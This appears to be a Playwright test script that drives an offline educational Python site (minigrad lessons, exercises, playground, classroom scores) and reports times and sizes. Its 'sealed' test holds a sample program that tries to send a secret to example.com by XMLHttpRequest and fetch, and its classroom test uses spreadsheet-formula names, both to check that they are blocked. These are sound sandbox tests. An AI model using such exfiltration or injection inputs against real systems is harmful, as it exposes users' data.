"""Go through the built site in a browser without a network, as learners do, and print times and sizes.

    make docs PYODIDE="$(python -m docs.site_pyodide)"
    python -m docs.drive_site                 # all parts, from the folder of files, without a server
    python -m docs.drive_site --server        # from a server on this machine, as a school's
    python -m docs.drive_site learner loop    # some parts only
    python -m docs.drive_site --write         # and put the times and sizes into docs/live.md

It needs playwright and a Chromium, which finds no address but this machine's. It fails at the first part that does not do what
docs/live.md says. Times are printed, and nothing depends on them.
"""

from __future__ import annotations

import argparse
import functools
import http.server
import json
import os
import re
import shutil
import sys
import tempfile
import threading
import time
import tomllib
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from docs.site_browser import ROOT, QuietHandler, Site, check

PROGRAMS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
MEGABYTES = 25  # that a lesson may load
WRONG = "    return (f(x + h) - f(x)) / h\n"
RIGHT = "    return (f(x + h) - f(x - h)) / (2 * h)\n"
LATE = "does not come to an end"
NUMBER = re.compile(r"-?\d+\.\d+(?:e[+-]?\d+)?|-?\d+")
WORDS = {
    "en": {
        "check": "Check",
        "run": "Run",
        "stop": "Stop",
        "train": "Train",
        "solved": "Solved",
        "wrong": "Not right yet",
        "probably": "Probably",
    },
    "ja": {
        "check": "採点",
        "run": "実行",
        "stop": "停止",
        "train": "訓練する",
        "solved": "正解です",
        "wrong": "まだ正しくありません",
        "probably": "考えられる原因",
    },
}


def learner(site: Site) -> None:
    """In both languages, a learner gets 1.1 wrong, reads why, opens the step, solves it, and finds the work again."""
    for language, folder in (("en", ""), ("ja", "ja/")):
        words, name = WORDS[language], f"course/exercises/{folder}1_1_nudge.html"
        page = site.open(name)
        stub = page.locator(".live-editor .cm-content").inner_text()
        site.put(program_with(stub, WRONG))
        cold = site.press(words["check"])
        text = site.results()
        check(words["probably"] in text, f"{language}: no diagnosis in {text!r}")
        frame = page.locator(".live-results iframe").content_frame
        frame.locator("body").wait_for()
        shown = frame.locator("body").inner_text()
        check("1.1" in shown, f"{language}: the page of the answer shows {shown[:200]!r}")
        check(words["wrong"] in page.inner_text(".live-mark"), f"{language}: no mark")
        site.put(program_with(stub, RIGHT))
        again = site.press(words["check"])
        check(words["solved"] in page.inner_text(".live-mark"), f"{language}: not solved: {site.results()}")
        site.put(program_with(stub, RIGHT) + "print(round(slope(lambda x: x * x, 3.0), 3))\n")
        site.press(words["run"])
        check("6.0" in site.results(), f"{language}: Run prints {site.results()!r}")
        site.restart()
        page = site.open(name)
        kept = page.locator(".live-editor .cm-content").inner_text()
        check("(2 * h)" in kept and words["solved"] in page.inner_text(".live-mark"), f"{language}: the work is gone")
        print(
            f"  {language}: diagnosis, step, tick, and kept; first check {cold:.1f} s with Python's start, next {again:.1f} s"
        )


def program_with(stub: str, line: str) -> str:
    start = stub.index("def slope")
    return stub[start : stub.index("\n", start) + 1] + line


def loop(site: Site) -> None:
    """An endless loop is stopped by the button, and the page goes on; one in an exercise ends by itself, with its line."""
    page = site.open("playground.html")
    site.put("while True:\n    pass\n")
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("Running.").wait_for()
    time.sleep(2)
    start = time.perf_counter()
    site.press("Stop")
    stopped = time.perf_counter() - start
    site.put("print(6 * 7)\n")
    again = site.press("Run")
    check("42" in site.results(), "nothing ran after a stop")
    FIGURES.append(("Stop, until the button answers", f"{stopped:.1f} s", f"{stopped:.1f} s"))
    print(f"  stopped after {stopped:.1f} s, the next program was done {again:.1f} s later")
    site.open("course/exercises/1_1_nudge.html")
    site.put("def slope(f, x, h=1e-5):\n    while True:\n        x = x + 1\n")
    late = site.press("Check")
    check(LATE in site.results() and "line" in site.results(), site.results())
    print(f"  an exercise with an endless loop: its line after {late:.1f} s")


def capstone(site: Site) -> None:
    """The GPT of the learner's answers trains for at least 100 steps."""
    site.open("course.html")
    seconds = site.press("Train")
    text = site.results(1)
    said = site.page.locator(".live-status").all_inner_texts()
    check("epoch  20:" in text and "It writes:" in text, f"the capstone: {text!r} {said}")
    pictures = site.page.locator(".live-results img").count()
    print(f"  20 epochs, 140 steps, in {seconds:.1f} s with Python's start; pictures: {pictures}")


def lessons(site: Site, language: str = "en") -> None:
    """Every lesson runs to its end, and prints the numbers that the build printed in a terminal's Python."""
    folder, different = ROOT / "out/docs/course", list[str]()
    for path in sorted(folder.glob("[0-9]*.html" if language == "en" else f"{language}/[0-9]*.html")):
        name = path.relative_to(folder).with_suffix("").as_posix()
        page = site.open(f"course/{name}.html")
        built = page.locator(".live").evaluate_all(
            "all => all.map(one => [...one.querySelectorAll('.live-built pre')].map(pre => pre.textContent).join(''))"
        )
        cells = page.locator('.live[data-kind="cell"]')
        last = cells.count() - 1
        seconds = site.press(WORDS[language]["run"], last)
        check(cells.nth(last).get_attribute("data-ran") == "yes", f"{name}: {site.results(last)}")
        ran = cells.evaluate_all("all => all.map(one => one.querySelector('.live-results .live-text').textContent)")
        count = sum(len(NUMBER.findall(text)) for text in ran)
        others = [(a, b) for a, b in zip(built, ran, strict=True) if numbers(a) != numbers(b)]
        different += [name] * bool(others)
        print(
            f"  {name}: {last + 1} cells in {seconds:.1f} s, {count} numbers; cells with others: {len(others)}",
            flush=True,
        )
        for a, b in others:
            print(f"    built: {a.strip()!r}\n    here:  {b.strip()!r}")
    check(not different, f"other numbers than the terminal's in {', '.join(different)}")


def japanese_lessons(site: Site) -> None:
    """Every lesson in Japanese does so, too."""
    lessons(site, "ja")


def numbers(text: str) -> list[str]:
    """The numbers of a print-out. NumPy's default integer has 32 bits in WebAssembly, so its name is no number here."""
    return NUMBER.findall(re.sub(r"\bint(?:32|64)\b", "int", text))


def frozen(site: Site) -> None:
    """The 60 frozen wrong answers get the same report in the page as in the terminal."""
    from minigrad.learn.checker import Job, check as checked
    from minigrad.learn.report import report
    from minigrad.learn.tasks import find

    found = [
        (path.stem, one)
        for path in sorted((ROOT / "tests/minigrad/learn/answers").glob("*.toml"))
        for one in tomllib.loads(path.read_text(encoding="utf-8"))["answer"]
        if one["origin"] == "fresh"
    ]
    state = json.dumps({"seed": 7, "language": "en", "passed": [], "hints": {}, "attempts": {}})
    same, start = 0, time.perf_counter()
    site.open("course/exercises/1_1_nudge.html")
    with tempfile.TemporaryDirectory() as folder:
        for label, one in found:
            task = find(label)
            path = Path(folder) / task.file
            path.write_text(one["code"], encoding="utf-8")
            (verdict,) = checked([Job(task, path, 7)], seconds=60.0)  # the machine may be busy
            wanted = report(verdict, "en")
            # One page takes the place of all, so that Python starts once.
            facts = [state, label, task.file]
            site.page.evaluate(
                "([state, task, file]) => { localStorage.setItem('minigrad/course/learn.json', state);"
                " Object.assign(document.querySelector('.live').dataset, { task, file }); }",
                facts,
            )
            site.put(one["code"])
            for _ in range(5):
                site.press("Check")
                got = site.page.locator(".live-results .live-text").first.text_content()
                # The limit of a page is one of the clock, which a busy machine may reach.
                if LATE not in got or LATE in wanted:
                    break
            if got.startswith(wanted.strip()):
                same += 1
            else:
                print(f"    {label} {one['file']}:\n      terminal: {wanted!r}\n      page:     {got!r}")
    print(f"  {same} of {len(found)} frozen wrong answers: the same report, in {time.perf_counter() - start:.0f} s")
    check(same == len(found), "a report differs")


def first_page(site: Site) -> None:
    """The first page leads to the playground, whose program runs, is stepped through, and is written as NumPy."""
    page = site.open("index.html", ready=False)
    page.locator("article a[href*='playground.html']").first.click()
    page.locator("html.live-ready").wait_for(state="attached")
    site.press("Run")
    check(site.results().strip() != "", "the playground's program prints nothing")
    site.press("Step through")
    frame = page.locator(".live-results iframe").content_frame
    frame.locator("svg").first.wait_for(state="attached")
    site.press("Write as NumPy")
    check("def step(" in site.results(), site.results())
    print("  from the first page to a program, its steps and its NumPy program")


def keyboard(site: Site) -> None:
    """Without a mouse: into the editor, Ctrl+Enter, Escape and Tab out of it, and Enter on a button; each has a name."""
    page = site.open("playground.html")
    page.locator("main, article").first.evaluate("one => { one.tabIndex = -1; one.focus(); }")
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.classList.contains('cm-content')"):
            break
    check(page.evaluate("document.activeElement.getAttribute('aria-label')") == "Editor", "Tab finds no editor")
    page.keyboard.press("Control+A")
    page.keyboard.insert_text("print('by keyboard')")
    page.keyboard.press("Control+Enter")
    page.locator(".live-results").get_by_text("by keyboard").first.wait_for()
    site.done()
    check("by keyboard" in site.results(), site.results())
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    check(page.evaluate("document.activeElement.textContent") == "Run", "Escape and Tab do not lead to Run")
    page.keyboard.press("Enter")
    site.done()
    unnamed = page.locator(
        ".live button:visible, .live input:visible, .live iframe, .live [role]:visible"
    ).evaluate_all(
        "all => all.filter(one => !(one.ariaLabel || one.textContent.trim() || one.title || one.role === 'status'))"
        ".map(one => one.outerHTML.slice(0, 80))"
    )
    check(not unnamed, f"without a name: {unnamed}")
    check(page.locator(".live [role=status]").count() == 1, "no line that a screen reader reads out")
    print("  editor, Run and result by keys; every control has a name")


def work(site: Site) -> None:
    """A learner's work goes into a .zip, and comes back from it in a browser that knows nothing of it."""
    page = site.open("course/exercises/1_1_nudge.html")
    site.put("mine = 1\n")
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save my work").click()
    path = Path(saved.value.path())
    with zipfile.ZipFile(path) as archive:
        names = {Path(name).name for name in archive.namelist()}
    check({"learn.json", "1_1_nudge.py"} <= names, f"{names}")
    page.evaluate("localStorage.clear()")
    page = site.open("course/exercises/1_1_nudge.html")
    check("mine" not in page.locator(".cm-content").inner_text(), "the work is still there")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Load my work").click()
    with tempfile.TemporaryDirectory() as folder:  # a download has no ending
        shutil.copy(path, Path(folder) / "work.zip")
        with page.expect_navigation():
            chooser.value.set_files(Path(folder) / "work.zip")
    page.locator(".cm-content").get_by_text("mine").wait_for()
    page.evaluate("localStorage.clear()")
    print(f"  {len(names)} files of a folder of `minigrad learn`, {path.stat().st_size / 1000:.0f} kB")


def release_place(site: Site) -> None:
    """A page of a site without a copy takes Pyodide from its own place, checks each file, and refuses one that is changed."""
    from docs import site_live
    from docs.site_pyodide import fetched, release

    folder, changed, got = fetched(), set[str](), list[str]()

    def answer(route: Any) -> None:
        name = route.request.url.removeprefix(release()["from"])
        content = (folder / name).read_bytes()
        got.append(name)
        content = content[:-1] + b"?" if name in changed else content
        kind = "application/wasm" if name.endswith(".wasm") else "application/octet-stream"
        route.fulfill(body=content, headers={"Access-Control-Allow-Origin": "*", "Content-Type": kind})

    with tempfile.TemporaryDirectory() as place:
        other = Path(place)
        shutil.copytree(ROOT / "out/docs/_static", other / "_static", ignore=shutil.ignore_patterns("pyodide"))
        table = site_live.write(ROOT, other, None)
        text = (ROOT / "out/docs/playground.html").read_text(encoding="utf-8")
        (other / "playground.html").write_text(site_live.with_editor(text, "", table), encoding="utf-8")
        site.context.route(f"{release()['from']}**", answer)
        site.base, base = f"{other.as_uri()}/", site.base
        site.open("playground.html")
        site.elsewhere = []
        site.put("print(6 * 7)\n")
        site.press("Run")
        check("42" in site.results(), f"{site.results()} {site.page.locator('.live-status').inner_text()}")
        check(set(got) <= set(release()["files"]) and len(got) > 5, str(got))
        size = sum(release()["files"][name]["bytes"] for name in got) / 1e6
        print(f"  {len(got)} files, {size:.1f} MB before the server packs them, all by their sums")
        changed.add(next(name for name in got if name.startswith("numpy")))
        site.elsewhere = []
        site.open("playground.html")
        site.page.get_by_role("button", name="Run", exact=True).click()
        site.page.locator(".live-status").get_by_text("is not the file").wait_for()
        print(f"  changed: {site.page.locator('.live-status').inner_text()}")
        site.elsewhere = []
        site.close()
        site.base = base
        site.context.unroute(f"{release()['from']}**")


FLOW = """
import numpy as np
import minigrad as mg
import nn

print("before")
model = nn.Affine(2, 1, rng=np.random.default_rng(0))
flow = mg.grad_flow(model)
np.sum(model(np.ones((3, 2), np.float32)) ** 2).backward()
flow.step()
flow.plot("flow.png")
"""


def drawing(site: Site) -> None:
    """draw_dot draws, and so does what needs Matplotlib, in a program that does not import it."""
    site.open("playground.html")
    source = (
        "import minigrad as mg\nx = mg.Tensor(2.0, requires_grad=True)\nmg.draw_dot(x * x + 1).render('graph.svg')\n"
    )
    site.put(source)
    seconds = site.press("Run")
    check(site.page.locator(".live-results img").count() == 1, site.results())
    print(f"  draw_dot in {seconds:.1f} s with the start of Python")
    site.put(FLOW)
    seconds = site.press("Run")
    check(site.page.locator(".live-results img").count() == 1, site.results())
    check(site.results().count("before") == 1, site.results())
    print(f"  a picture for which minigrad imports Matplotlib, in {seconds:.1f} s with the loading of it")


def link(site: Site) -> None:
    """A link carries a program, which is shown and not run."""
    page = site.open("playground.html")
    site.put("print('from a link')\n")
    page.get_by_role("button", name="Copy a link").click()
    page.get_by_text("clipboard").wait_for()
    address = page.evaluate("location.href")
    page = site.open(address.removeprefix(site.base))
    page.get_by_text("came with the link").wait_for()
    check("from a link" in page.locator(".cm-content").inner_text(), "the program of the link is not in the editor")
    check(not page.locator(".live-results").is_visible(), "the program of the link was run")
    print(f"  a link of {len(address.partition('#')[2])} letters")


LEAK = """
import js
try:
    request = js.XMLHttpRequest.new()
    request.open("GET", "https://example.com/?secret", False)
    request.send()
    print("it was sent")
except BaseException as error:
    print("refused:", type(error).__name__)
open("page.html", "w").write("<body>before<script>try { localStorage.x = 1; document.body.append(' kept') }"
    " catch { document.body.append(' refused') } fetch('https://example.com/?secret').then("
    "() => document.body.append(' sent'), () => document.body.append(' refused'))</script>")
"""


def sealed(site: Site) -> None:
    """A program reaches no other place, and neither does a page that it writes, which sees nothing of the reader's work."""
    site.open("playground.html")
    site.put(LEAK)
    site.press("Run")
    text = site.page.locator(".live-results .live-text").first.inner_text()
    check(text.split() == ["refused:", "JsException"], text)
    body = site.page.locator(".live-results iframe").content_frame.locator("body")
    body.get_by_text("before refused refused").wait_for()
    print("  XMLHttpRequest, a frame's fetch and its storage: refused")


def classroom(site: Site) -> None:
    """A learner's score is a file, and the teacher's page makes a table of the files of thirty."""
    page = site.open("course.html")
    page.get_by_placeholder("Your name").fill("Ada")
    with page.expect_download() as saved:
        seconds = site.press("Score")
    score = json.loads(Path(saved.value.path()).read_text(encoding="utf-8"))
    check(score["learner"] == "Ada" and score["of"] == len(score["tasks"]), str(score)[:200])
    with tempfile.TemporaryDirectory() as folder:
        files = [Path(folder) / f"{i}.json" for i in range(30)]
        for i, path in enumerate(files):
            path.write_text(json.dumps({**score, "learner": f"=learner {i}", "seed": i}), encoding="utf-8")
        page = site.open("teaching.html")
        page.locator(".live-drop input").set_input_files(files)
        page.locator(".live-table tbody tr").nth(29).wait_for()
        with page.expect_download() as table:
            page.get_by_role("button", name="Save the table").click()
        rows = Path(table.value.path()).read_text(encoding="utf-8-sig").splitlines()
    check(rows[0].startswith("learner,seed,task,state") and len(rows) == 1 + 30 * score["of"], f"{len(rows)} rows")
    check(all(row.startswith("'=learner") for row in rows[1:]), "a name that begins like a formula")
    print(f"  the score of {score['of']} answers in {seconds:.1f} s with Python's start; 30 files: {len(rows)} rows")


def processor() -> float:
    """Return the seconds of processor time that the browser has used, on Linux: a busy machine does not change them much."""
    used, parents = dict[int, float](), dict[int, int]()
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = path.read_text().rpartition(")")[2].split()
        except OSError:  # it has ended
            continue
        parents[int(path.parent.name)] = int(fields[1])
        used[int(path.parent.name)] = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def ours(process: int) -> bool:
        return process == os.getpid() or (process in parents and ours(parents[process]))

    return sum(seconds for process, seconds in used.items() if ours(process))


FIGURES: list[tuple[str, str, str]] = []  # rows of the table in docs/live.md


def ready(site: Site) -> None:
    """The first result from a warm cache, from a server and from a folder of files; less than 25 MB for a lesson."""
    own = site.base
    for name, what in (
        ("playground.html", "a page's first program"),
        ("course/01_nudging.html", "a lesson, with Matplotlib"),
    ):
        cells = []
        for base in (site.server, f"{(ROOT / 'out' / 'docs').as_uri()}/"):
            site.base = base
            for turn in ("first", "warm"):
                site.requests.clear()
                site.open(name)
                before = processor()
                seconds = site.press("Run")
                used, size = processor() - before, sum(site.requests.values()) / 1e6
                print(
                    f"  {what}, {base[:5]}, {turn}: {seconds:.1f} s, {used:.1f} s of a processor; {size:.1f} MB",
                    flush=True,
                )
                check(size < MEGABYTES, f"{size:.1f} MB: {sorted(site.requests.items(), key=lambda one: -one[1])[:9]}")
            cells.append(f"{seconds:.1f} s ({used:.1f} s of a processor), {size:.1f} MB")
        FIGURES.append((what, cells[0], cells[1]))
    site.base = own


PARTS: dict[str, Callable[[Site], None]] = {
    part.__name__: part
    for part in (ready, first_page, learner, keyboard, loop, link, sealed, drawing, work, classroom, capstone, lessons,
                 japanese_lessons, frozen,
                 release_place)
}  # fmt: skip
MARKS = ("<!-- figures of docs.drive_site -->\n", "<!-- end -->")


def write_figures() -> None:
    """Put the table of this run into docs/live.md."""
    path = ROOT / "docs" / "live.md"
    start, rest = path.read_text(encoding="utf-8").split(MARKS[0])
    rows = [
        "| | from a server | from a folder of files |",
        "|---|---|---|",
        *(f"| {' | '.join(row)} |" for row in FIGURES),
    ]
    path.write_text(
        start + MARKS[0] + "\n".join(["", *rows, "", ""]) + MARKS[1] + rest.split(MARKS[1])[1], encoding="utf-8"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("parts", nargs="*", metavar="PART", help=", ".join(PARTS))
    parser.add_argument("--server", action="store_true", help="serve the site on this machine instead of opening files")
    parser.add_argument("--write", action="store_true", help="put the times and sizes into docs/live.md")
    options = parser.parse_args()
    program = next(filter(None, map(shutil.which, PROGRAMS)), None)
    if program is None:
        sys.exit("no browser: install chromium")
    from playwright.sync_api import sync_playwright

    folder = ROOT / "out" / "docs"
    handler = functools.partial(QuietHandler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{server.server_port}/"
    with sync_playwright() as playwright, tempfile.TemporaryDirectory() as profile:
        arguments = [
            "--no-sandbox",
            "--disable-dev-shm-usage",
            "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        ]
        launch = functools.partial(
            playwright.chromium.launch_persistent_context, profile, executable_path=program, args=arguments
        )
        site = Site(launch, address if options.server else f"{folder.as_uri()}/", address)
        for name in options.parts or PARTS:
            print(f"{name}: {PARTS[name].__doc__}", flush=True)
            start = time.perf_counter()
            PARTS[name](site)
            site.close()
            print(f"  done in {time.perf_counter() - start:.0f} s", flush=True)
        site.context.close()
    if options.write:
        write_figures()


if __name__ == "__main__":
    main()
